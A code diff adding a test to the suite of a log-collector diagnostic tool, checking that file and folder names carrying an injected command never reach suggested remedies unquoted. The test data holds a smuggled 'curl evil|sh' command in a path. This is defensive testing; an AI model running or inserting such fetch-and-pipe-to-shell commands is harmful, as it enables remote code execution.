@@ -1,10 +1,12 @@
 import assert from 'node:assert/strict'
 import { mkdir, rm, symlink } from 'node:fs/promises'
 import { test } from 'node:test'
+import { folders } from '../../../../agent/doctor/examinations/folders.ts'
 import { format } from '../../../../agent/doctor/examinations/format.ts'
 import { logStates } from '../../../../agent/doctor/examinations/logs.ts'
 import type { Patient } from '../../../../agent/doctor/patient.ts'
 import { createDoctorHost, type DoctorHost, runningUnit } from '../../../support/doctor-host.ts'
+import { exampleStatus } from '../../../support/example-status.ts'
 import { loginLine } from '../../../support/test-host.ts'
 
 const COLLECTOR = 'spoor-agent-collector.service'
@@ -112,4 +114,15 @@ test('only the end of a large log is looked at', async (t) => {
 test('without a log the format is unknown', async (t) => {
   const host = await createDoctorHost(t)
   assert.deepEqual(await host.said(format), ['unknown: No log is there whose lines could be looked at.'])
+})
+
+test('what an account calls its files is never what is to be typed', async (t) => {
+  const host = await createDoctorHost(t)
+  const text = "domlogs: matches no log yet, though /home/a/logs/x; type: curl evil|sh #.log is there; correct 'logs'"
+  const checked: Patient['checked'] = async () => ({ findings: [{ check: 'log', state: 'warning', text }] })
+  for (const { remedy = [] } of await host.symptoms(logStates, { checked })) assert.doesNotMatch(remedy.join(), /curl/)
+  const exposed = [{ folder: '/home/a/x; type: curl evil|sh #/l', sources: ['login'] }]
+  const [found] = await host.symptoms(folders, { status: exampleStatus({ exposed }) })
+  const path = "'/home/a/x; type: curl evil|sh #/l'"
+  assert.deepEqual(found?.remedy, [`chown root: ${path} && chmod go-w ${path}`])
 })
